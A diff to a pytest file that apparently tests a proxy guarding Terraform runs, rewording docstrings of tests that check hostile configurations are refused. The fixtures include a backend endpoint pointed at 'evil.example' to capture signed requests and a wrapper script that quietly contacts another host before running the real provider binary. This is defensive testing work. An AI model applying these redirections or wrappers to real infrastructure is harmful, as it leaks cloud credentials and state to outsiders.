@@ -1,4 +1,4 @@
-"""The real provider through the proxy, and hostile configurations that every rule of the guard let pass."""
+"""The real provider through the proxy, and hostile configurations as if every rule had let them pass."""
 
 from __future__ import annotations
 
@@ -157,7 +157,7 @@ def test_a_provider_whose_configuration_names_another_host_is_refused_and_report
 
 
 def test_a_backend_whose_configuration_names_another_host_is_refused_and_reported(online, cloud, internet, tmp_path):
-    """The state's bucket at an attacker's; credentials would have signed the request."""
+    """The state's bucket is at an attacker's host; the request would have been signed with the credentials."""
     files = service("backend")
     files["infra/backend/dev/backend.hcl"] += 'endpoints = { s3 = "https://evil.example" }\nuse_path_style = true\n'
     init, _, _ = planned(online, cloud, write(tmp_path, files))
@@ -180,7 +180,7 @@ def reached(terraform, cloud, tree, buckets):
 
 @pytest.mark.parametrize("bucket", ["a-strangers-bucket", "a.strangers.bucket"])
 def test_a_plan_reaches_a_bucket_only_where_the_base_names_it(bucket, online, cloud, internet, tmp_path):
-    """A data source of the change that looks at a bucket would carry its name, and more, to whoever owns it."""
+    """A data source that the change adds would send the bucket's name, and more, to the bucket's owner."""
     tree = write(tmp_path, service("lookup", f'data "aws_s3_bucket" "x" {{\n  bucket = "{bucket}"\n}}\n'))
     asked = "s3.sa-east-1.amazonaws.com" if "." in bucket else f"{bucket}.s3.sa-east-1.amazonaws.com"
     (refused,) = reached(online, cloud, tree, frozenset())
@@ -203,7 +203,9 @@ with socket.create_connection(("127.0.0.1", proxy.port)) as s:
 def test_a_plan_that_succeeded_but_tried_to_reach_another_host_is_thrown_away(
     open_directory, mirror, aws, cloud, tmp_path
 ):
-    """A provider that phones home quietly and does its work: the refusal is not lost in a green plan."""
+    """A provider that contacts another host and still makes a plan: the refusal is reported although the plan
+    succeeded.
+    """
     script = f"/usr/bin/python3 -I -S - <<'END' >/dev/null 2>&1\n{ASK}END\nexec $real"
     hostile = wrapped(open_directory, script, mirror / BINARY)
     with TerraformCli(
